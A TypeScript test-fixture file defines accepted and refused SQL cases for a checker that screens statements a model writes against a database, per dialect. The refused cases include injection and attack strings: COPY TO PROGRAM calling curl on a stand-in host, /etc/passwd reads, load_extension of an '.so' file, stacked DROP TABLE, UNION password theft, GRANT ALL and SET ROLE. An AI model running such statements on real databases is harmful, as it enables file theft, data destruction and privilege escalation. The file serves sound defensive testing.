import type { SqlKind, SqlPermissions } from "./check";
import type { SqlDialect } from "./dialect";
import type { SqlRefusalCode } from "./messages";

/**
 * The statement checker's specification as data: statements a model might write over a
 * database whose chosen tables are `CASE_TABLES`, and what the checker must answer — the kind
 * it accepts, or the refusal code. Used by `check.test.ts` (the SQLite legitimate set also runs
 * for real) and by `bench/database-check.ts`.
 */
export type CheckCase = {
  sql: string;
  expect: SqlKind | SqlRefusalCode;
  /** Permissions to check under; all four when absent. */
  permissions?: Partial<SqlPermissions>;
  allowUnfilteredWrites?: boolean;
};

/** The tables chosen for the database the cases run against. */
export const CASE_TABLES = ["orders", "customers", "products"] as const;

/** Rows a read may return in the cases. */
export const CASE_MAX_ROWS = 100;

const READ_ONLY = { query: true, add: false, edit: false, delete: false };
const WRITE_ONLY = { query: false, add: true, edit: true, delete: true };

const legitCommon: CheckCase[] = [
  { sql: "SELECT * FROM orders", expect: "select" },
  { sql: "select id, total from orders where status = 'paid'", expect: "select" },
  { sql: "SELECT count(*) FROM orders;", expect: "select" },
  { sql: "SELECT c.name, SUM(o.total) AS spent FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY c.name", expect: "select" },
  {
    sql: "SELECT c.name, SUM(o.total) AS spent FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY c.name HAVING SUM(o.total) > 100 ORDER BY spent DESC",
    expect: "select",
  },
  { sql: "SELECT c.name, o.id FROM customers c LEFT JOIN orders o ON o.customer_id = c.id WHERE o.id IS NULL", expect: "select" },
  { sql: "SELECT * FROM orders ORDER BY created_at DESC LIMIT 10", expect: "select" },
  { sql: "SELECT * FROM orders ORDER BY id LIMIT 5 OFFSET 10", expect: "select" },
  { sql: "SELECT * FROM orders LIMIT 100000", expect: "select" },
  { sql: "SELECT * FROM orders WHERE id IN (1, 2, 3)", expect: "select" },
  { sql: "SELECT * FROM orders WHERE id NOT IN (4, 5)", expect: "select" },
  { sql: "SELECT name FROM customers WHERE name LIKE 'A%'", expect: "select" },
  { sql: "SELECT * FROM orders WHERE total BETWEEN 10 AND 20", expect: "select" },
  { sql: "SELECT id, CASE WHEN total > 100 THEN 'big' WHEN total > 10 THEN 'medium' ELSE 'small' END AS size FROM orders", expect: "select" },
  { sql: "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE city = 'Paris')", expect: "select" },
  { sql: "SELECT * FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)", expect: "select" },
  { sql: "SELECT x.city, x.n FROM (SELECT city, COUNT(*) AS n FROM customers GROUP BY city) x WHERE x.n > 1", expect: "select" },
  { sql: "WITH big AS (SELECT * FROM orders WHERE total > 50) SELECT COUNT(*) FROM big", expect: "select" },
  {
    sql: "WITH big AS (SELECT * FROM orders WHERE total > 50), who AS (SELECT DISTINCT customer_id FROM big) SELECT c.name FROM customers c JOIN who ON who.customer_id = c.id",
    expect: "select",
  },
  { sql: "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT i FROM n", expect: "select" },
  { sql: "SELECT id, ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY created_at) AS nth FROM orders", expect: "select" },
  { sql: "SELECT id, RANK() OVER (PARTITION BY status ORDER BY total DESC) AS place FROM orders", expect: "select" },
  { sql: "SELECT id, SUM(total) OVER (PARTITION BY customer_id) AS customer_total FROM orders", expect: "select" },
  { sql: "SELECT name FROM customers UNION SELECT name FROM products", expect: "select" },
  { sql: "SELECT name FROM customers UNION ALL SELECT name FROM products ORDER BY 1 LIMIT 20", expect: "select" },
  { sql: "SELECT DISTINCT city FROM customers", expect: "select" },
  { sql: "SELECT COUNT(DISTINCT customer_id) FROM orders", expect: "select" },
  { sql: "SELECT AVG(total), MIN(total), MAX(total) FROM orders", expect: "select" },
  { sql: "SELECT COALESCE(city, 'unknown'), NULLIF(name, '') FROM customers", expect: "select" },
  { sql: "SELECT LOWER(name), UPPER(name), LENGTH(name), TRIM(name), REPLACE(name, 'a', 'b') FROM customers", expect: "select" },
  { sql: "SELECT ROUND(total, 1), ABS(total - 10) FROM orders", expect: "select" },
  { sql: "SELECT * FROM customers WHERE city IS NOT NULL AND name <> 'x'", expect: "select" },
  { sql: "SELECT o.id, (SELECT name FROM customers c WHERE c.id = o.customer_id) AS customer FROM orders o", expect: "select" },
  { sql: "SELECT a.id, b.id FROM orders a JOIN orders b ON a.customer_id = b.customer_id AND a.id < b.id", expect: "select" },
  { sql: "SELECT product_id, SUM(quantity) AS sold FROM orders GROUP BY product_id ORDER BY SUM(quantity) DESC", expect: "select" },
  { sql: "SELECT name FROM customers WHERE city = '北京'", expect: "select" },
  { sql: "SELECT 1", expect: "select" },
  { sql: "SELECT * FROM orders", expect: "select", permissions: READ_ONLY },
  {
    sql: "INSERT INTO orders (id, customer_id, product_id, quantity, total, status, created_at) VALUES (1000, 1, 1, 2, 19.5, 'new', '2026-01-05')",
    expect: "insert",
  },
  { sql: "INSERT INTO customers (id, name, city) VALUES (100, 'Ann', 'Oslo'), (101, 'Bo', 'Rome')", expect: "insert", permissions: WRITE_ONLY },
  { sql: "INSERT INTO products (id, name, price, category) SELECT id + 1000, name, 1, 'copy' FROM customers WHERE id = 1", expect: "insert" },
  { sql: "UPDATE orders SET status = 'shipped' WHERE id = 1", expect: "update", permissions: WRITE_ONLY },
  { sql: "UPDATE products SET price = price * 1.1 WHERE category = 'tea'", expect: "update" },
  { sql: "UPDATE orders SET status = 'vip' WHERE customer_id IN (SELECT id FROM customers WHERE city = 'Paris')", expect: "update" },
  { sql: "DELETE FROM orders WHERE id = 3", expect: "delete", permissions: WRITE_ONLY },
  { sql: "DELETE FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE city = 'Nowhere')", expect: "delete" },
  { sql: "DELETE FROM products", expect: "delete", allowUnfilteredWrites: true },
];

const legitByDialect: Record<SqlDialect, CheckCase[]> = {
  sqlite: [
    { sql: "SELECT date('now'), strftime('%Y-%m', created_at) AS month FROM orders", expect: "select" },
    { sql: "SELECT julianday('now') - julianday(created_at) AS age_days FROM orders", expect: "select" },
    { sql: "SELECT iif(total > 10, 'yes', 'no'), ifnull(city, '-') FROM orders JOIN customers ON customers.id = orders.customer_id", expect: "select" },
    { sql: "SELECT customer_id, group_concat(id) FROM orders GROUP BY customer_id", expect: "select" },
    { sql: "SELECT total(total) FROM orders", expect: "select" },
    { sql: "SELECT datetime(created_at, '+1 day') FROM orders", expect: "select" },
    { sql: 'SELECT "name" FROM "customers"', expect: "select" },
    { sql: "SELECT `name` FROM `CUSTOMERS`", expect: "select" },
    { sql: "SELECT * FROM orders LIMIT 3, 2", expect: "select" },
    { sql: "SELECT substr(name, 1, 2), instr(name, 'a') FROM customers", expect: "select" },
    { sql: "select Id From Orders Where Total > 1", expect: "select" },
  ],
  mysql: [
    { sql: "SELECT DATE_FORMAT(created_at, '%Y-%m') AS month, COUNT(*) FROM orders GROUP BY month", expect: "select" },
    { sql: "SELECT * FROM orders WHERE created_at > DATE_SUB(NOW(), INTERVAL 7 DAY)", expect: "select" },
    { sql: "SELECT DATEDIFF(NOW(), created_at) FROM orders", expect: "select" },
    { sql: "SELECT YEAR(created_at), MONTH(created_at), COUNT(*) FROM orders GROUP BY YEAR(created_at), MONTH(created_at)", expect: "select" },
    { sql: "SELECT IF(total > 10, 'yes', 'no'), IFNULL(status, '-') FROM orders", expect: "select" },
    { sql: "SELECT customer_id, GROUP_CONCAT(id) FROM orders GROUP BY customer_id", expect: "select" },
    { sql: 'SELECT `name` FROM `customers` WHERE `city` = "Paris"', expect: "select" },
    { sql: "SELECT * FROM orders LIMIT 3, 2", expect: "select" },
    { sql: "SELECT CONCAT(name, ' (', city, ')') FROM customers", expect: "select" },
    { sql: "SELECT CAST(total AS SIGNED) FROM orders", expect: "select" },
  ],
  postgresql: [
    { sql: "SELECT date_trunc('month', created_at) AS month, COUNT(*) FROM orders GROUP BY 1", expect: "select" },
    { sql: "SELECT EXTRACT(YEAR FROM created_at) FROM orders", expect: "select" },
    { sql: "SELECT created_at::date, total::int FROM orders", expect: "select" },
    { sql: "SELECT * FROM orders WHERE created_at > now() - interval '7 days'", expect: "select" },
    { sql: "SELECT to_char(created_at, 'YYYY-MM') FROM orders", expect: "select" },
    { sql: "SELECT customer_id, string_agg(status, ',') FROM orders GROUP BY customer_id", expect: "select" },
    { sql: "SELECT * FROM customers WHERE name ILIKE 'a%'", expect: "select" },
    { sql: 'SELECT "name" FROM "customers"', expect: "select" },
    { sql: "SELECT * FROM orders OFFSET 5 LIMIT 2", expect: "select" },
    { sql: "SELECT CAST(total AS numeric) FROM orders", expect: "select" },
    { sql: "select Id From Orders Where Total > 1", expect: "select" },
  ],
};

const adversarialCommon: CheckCase[] = [
  { sql: "", expect: "sql_empty" },
  { sql: "DROP TABLE orders", expect: "sql_kind_not_allowed" },
  { sql: "CREATE TABLE x (a int)", expect: "sql_kind_not_allowed" },
  { sql: "ALTER TABLE orders ADD COLUMN x int", expect: "sql_kind_not_allowed" },
  { sql: "DELETE FROM orders WHERE id = 1; DROP TABLE customers", expect: "sql_multiple_statements" },
  { sql: "SELECT * FROM orders; DELETE FROM orders WHERE id = 1", expect: "sql_multiple_statements" },
  { sql: "SELECT * FROM orders;;", expect: "sql_multiple_statements" },
  { sql: "SELECT * FROM secret", expect: "sql_table_not_allowed" },
  { sql: "SELECT name FROM customers UNION SELECT password FROM users", expect: "sql_table_not_allowed" },
  { sql: "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM secret)", expect: "sql_table_not_allowed" },
  { sql: "SELECT * FROM orders JOIN secret ON secret.id = orders.id", expect: "sql_table_not_allowed" },
  { sql: "WITH x AS (SELECT * FROM secret) SELECT * FROM x", expect: "sql_table_not_allowed" },
  { sql: "SELECT * FROM (SELECT * FROM secret) s", expect: "sql_table_not_allowed" },
  { sql: "SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM secret)", expect: "sql_table_not_allowed" },
  { sql: "SELECT (SELECT MAX(token) FROM secret) FROM orders", expect: "sql_table_not_allowed" },
  { sql: "WITH secret AS (SELECT * FROM secret) SELECT * FROM secret", expect: "sql_table_not_allowed" },
  { sql: "SELECT * FROM (WITH secret AS (SELECT 1 AS a) SELECT a FROM secret) x, secret", expect: "sql_table_not_allowed" },
  { sql: "INSERT INTO secret (a) VALUES (1)", expect: "sql_table_not_allowed" },
  { sql: "INSERT INTO orders (id) SELECT id FROM secret", expect: "sql_table_not_allowed" },
  { sql: "UPDATE secret SET a = 1 WHERE id = 1", expect: "sql_table_not_allowed" },
  { sql: "DELETE FROM secret WHERE id = 1", expect: "sql_table_not_allowed" },
  { sql: "SELECT * FROM orders -- just a comment", expect: "sql_comment" },
  { sql: "SELECT * FROM orders /* a comment */", expect: "sql_comment" },
  { sql: "SELECT * FROM orders WHERE id = 1 /*; DROP TABLE customers */", expect: "sql_comment" },
  { sql: "SELECT * FROM orders --\n; DROP TABLE customers", expect: "sql_comment" },
  { sql: "INSERT INTO orders (id) VALUES (1)", expect: "sql_permission_denied", permissions: READ_ONLY },
  { sql: "UPDATE orders SET total = 0 WHERE id = 1", expect: "sql_permission_denied", permissions: READ_ONLY },
  { sql: "DELETE FROM orders WHERE id = 1", expect: "sql_permission_denied", permissions: READ_ONLY },
  { sql: "SELECT * FROM orders", expect: "sql_permission_denied", permissions: WRITE_ONLY },
  { sql: "INSERT INTO products (id) SELECT id FROM orders", expect: "sql_permission_denied", permissions: WRITE_ONLY },
  { sql: "DELETE FROM orders", expect: "sql_write_without_where" },
  { sql: "UPDATE orders SET status = 'void'", expect: "sql_write_without_where" },
  { sql: "SELECT * FROM orders WHERE id = ?", expect: "sql_ambiguous_syntax" },
  { sql: "SELECT * FROM orders WHERE status = 'a\\' OR 1=1 -- '", expect: "sql_ambiguous_syntax" },
  { sql: "SELECT\u00a0* FROM orders", expect: "sql_ambiguous_syntax" },
  { sql: "SELECT * FROM orders WHERE status = 'x\0'", expect: "sql_ambiguous_syntax" },
  { sql: "SELECT * FROM orders LIMIT -1", expect: "sql_clause_not_allowed" },
  { sql: "BEGIN", expect: "sql_kind_not_allowed" },
  { sql: "COMMIT", expect: "sql_kind_not_allowed" },
  { sql: "EXPLAIN SELECT * FROM orders", expect: "sql_kind_not_allowed" },
  { sql: "REPLACE INTO orders (id) VALUES (1)", expect: "sql_kind_not_allowed" },
  { sql: "SELECT * FROM orders WHERE id = (SELECT id FROM orders WHERE", expect: "sql_parse_failed" },
  { sql: `SELECT * FROM orders WHERE status IN (${"'x', ".repeat(4000)}'y')`, expect: "sql_too_long" },
];

const adversarialByDialect: Record<SqlDialect, CheckCase[]> = {
  sqlite: [
    { sql: "ATTACH DATABASE '/tmp/other.db' AS other", expect: "sql_kind_not_allowed" },
    { sql: "DETACH DATABASE other", expect: "sql_kind_not_allowed" },
    { sql: "PRAGMA table_info(orders)", expect: "sql_kind_not_allowed" },
    { sql: "VACUUM", expect: "sql_kind_not_allowed" },
    { sql: "SELECT load_extension('/tmp/evil.so')", expect: "sql_function_not_allowed" },
    { sql: "SELECT readfile('/etc/passwd')", expect: "sql_function_not_allowed" },
    { sql: "SELECT writefile('/tmp/x', 'y')", expect: "sql_function_not_allowed" },
    { sql: "SELECT * FROM sqlite_master", expect: "sql_table_not_allowed" },
    { sql: "SELECT * FROM main.orders", expect: "sql_qualified_name" },
    { sql: "SELECT * FROM other.orders", expect: "sql_qualified_name" },
    { sql: "SELECT * FROM orders WHERE id IN (SELECT rowid FROM temp.sqlite_master)", expect: "sql_qualified_name" },
    { sql: "SELECT * FROM pragma_table_info('orders')", expect: "sql_function_not_allowed" },
    { sql: "SELECT * FROM [orders]", expect: "sql_ambiguous_syntax" },
    { sql: "SELECT * FROM orders WHERE id = :id", expect: "sql_ambiguous_syntax" },
    { sql: "SELECT * FROM orders WHERE id = $1", expect: "sql_ambiguous_syntax" },
    { sql: "SELECT randomblob(1000000000)", expect: "sql_function_not_allowed" },
    { sql: "SELECT sqlite_version()", expect: "sql_function_not_allowed" },
    { sql: "INSERT OR REPLACE INTO orders (id) VALUES (1)", expect: "sql_clause_not_allowed" },
    { sql: "SELECT * FROM orders # comment", expect: "sql_comment" },
  ],
  mysql: [
    { sql: "SELECT LOAD_FILE('/etc/passwd')", expect: "sql_function_not_allowed" },
    { sql: "SELECT * FROM orders INTO OUTFILE '/tmp/orders.csv'", expect: "sql_clause_not_allowed" },
    { sql: "SELECT * FROM orders INTO DUMPFILE '/tmp/x'", expect: "sql_clause_not_allowed" },
    { sql: "SELECT id FROM orders LIMIT 1 INTO @x", expect: "sql_ambiguous_syntax" },
    { sql: "SELECT SLEEP(100)", expect: "sql_function_not_allowed" },
    { sql: "SELECT BENCHMARK(100000000, MD5('a'))", expect: "sql_function_not_allowed" },
    { sql: "SELECT GET_LOCK('x', 10)", expect: "sql_function_not_allowed" },
    { sql: "LOAD DATA INFILE '/etc/passwd' INTO TABLE orders", expect: "sql_kind_not_allowed" },
    { sql: "SELECT * FROM orders WHERE id = 1 /*!50000 UNION SELECT * FROM secret */", expect: "sql_comment" },
    { sql: "SELECT * FROM orders # comment", expect: "sql_comment" },
    { sql: "SELECT @@version", expect: "sql_ambiguous_syntax" },
    { sql: "SELECT * FROM mysql.user", expect: "sql_qualified_name" },
    { sql: "SELECT * FROM orders WHERE id IN (SELECT table_name FROM information_schema.tables)", expect: "sql_qualified_name" },
    { sql: "SELECT * FROM otherdb.orders", expect: "sql_qualified_name" },
    { sql: "SELECT * FROM orders FOR UPDATE", expect: "sql_clause_not_allowed" },
    { sql: "SELECT * FROM orders LOCK IN SHARE MODE", expect: "sql_clause_not_allowed" },
    { sql: "LOCK TABLES orders WRITE", expect: "sql_kind_not_allowed" },
    { sql: "CALL cleanup()", expect: "sql_kind_not_allowed" },
    { sql: "DO SLEEP(10)", expect: "sql_kind_not_allowed" },
    { sql: "SHOW TABLES", expect: "sql_kind_not_allowed" },
    { sql: "USE otherdb", expect: "sql_kind_not_allowed" },
    { sql: "SET @a = 1", expect: "sql_kind_not_allowed" },
    { sql: "GRANT ALL ON *.* TO 'x'@'%'", expect: "sql_kind_not_allowed" },
    { sql: "TRUNCATE TABLE orders", expect: "sql_kind_not_allowed" },
    { sql: "SELECT USER(), DATABASE()", expect: "sql_function_not_allowed" },
    { sql: "INSERT INTO orders (id) VALUES (1) ON DUPLICATE KEY UPDATE total = 0", expect: "sql_clause_not_allowed" },
    { sql: "SELECT SQL_CALC_FOUND_ROWS * FROM orders", expect: "sql_clause_not_allowed" },
    { sql: "DELETE orders, customers FROM orders JOIN customers ON customers.id = orders.customer_id WHERE orders.id = 1", expect: "sql_clause_not_allowed" },
    { sql: "SELECT * FROM Orders", expect: "sql_table_not_allowed" },
  ],
  postgresql: [
    { sql: "COPY orders TO PROGRAM 'curl http://evil.example'", expect: "sql_kind_not_allowed" },
    { sql: "COPY orders FROM '/etc/passwd'", expect: "sql_kind_not_allowed" },
    { sql: "SELECT pg_sleep(100)", expect: "sql_function_not_allowed" },
    { sql: "SELECT pg_read_file('/etc/passwd')", expect: "sql_function_not_allowed" },
    { sql: "SELECT * FROM pg_ls_dir('.')", expect: "sql_function_not_allowed" },
    { sql: "SELECT lo_import('/etc/passwd')", expect: "sql_function_not_allowed" },
    { sql: "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", expect: "sql_parse_failed" },
    { sql: "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", expect: "sql_parse_failed" },
    { sql: "SELECT * FROM orders FOR UPDATE", expect: "sql_parse_failed" },
    { sql: "SELECT * FROM pg_catalog.pg_user", expect: "sql_qualified_name" },
    { sql: "SELECT * FROM pg_user", expect: "sql_table_not_allowed" },
    { sql: "SELECT * FROM orders WHERE id IN (SELECT 1 FROM information_schema.tables)", expect: "sql_qualified_name" },
    { sql: "SELECT * FROM public.orders", expect: "sql_qualified_name" },
    { sql: "SELECT $$a$$", expect: "sql_ambiguous_syntax" },
    { sql: "SELECT * FROM orders WHERE status = $x$paid$x$", expect: "sql_ambiguous_syntax" },
    { sql: "SELECT E'\\x41'", expect: "sql_ambiguous_syntax" },
    { sql: "SELECT U&'\\0041'", expect: "sql_ambiguous_syntax" },
    { sql: "SELECT * FROM orders /* outer /* inner */ ; DROP TABLE orders; */", expect: "sql_comment" },
    { sql: "SELECT current_setting('data_directory')", expect: "sql_function_not_allowed" },
    { sql: "SELECT set_config('role', 'postgres', false)", expect: "sql_function_not_allowed" },
    { sql: "SET ROLE postgres", expect: "sql_kind_not_allowed" },
    { sql: "DO $$ BEGIN PERFORM 1; END $$", expect: "sql_kind_not_allowed" },
    { sql: "SELECT * FROM generate_series(1, 1000000000)", expect: "sql_function_not_allowed" },
    { sql: "SELECT version()", expect: "sql_function_not_allowed" },
    { sql: "SELECT 'orders'::regclass", expect: "sql_unsupported_construct" },
    { sql: "INSERT INTO orders (id) VALUES (1) RETURNING *", expect: "sql_clause_not_allowed" },
    { sql: "LOCK TABLE orders", expect: "sql_kind_not_allowed" },
    { sql: 'SELECT * FROM "ORDERS"', expect: "sql_table_not_allowed" },
    { sql: "SELECT query_to_xml('select * from secret', true, true, '')", expect: "sql_function_not_allowed" },
    { sql: "SELECT pg_catalog.now()", expect: "sql_qualified_name" },
  ],
};

/** Statements the checker must accept, per dialect. */
export const LEGIT_CASES: Record<SqlDialect, CheckCase[]> = {
  sqlite: [...legitCommon, ...legitByDialect.sqlite],
  mysql: [...legitCommon, ...legitByDialect.mysql],
  postgresql: [...legitCommon, ...legitByDialect.postgresql],
};

/** Statements the checker must refuse, per dialect, with the expected code. */
export const ADVERSARIAL_CASES: Record<SqlDialect, CheckCase[]> = {
  sqlite: [...adversarialCommon, ...adversarialByDialect.sqlite],
  mysql: [...adversarialCommon, ...adversarialByDialect.mysql],
  postgresql: [...adversarialCommon, ...adversarialByDialect.postgresql],
};
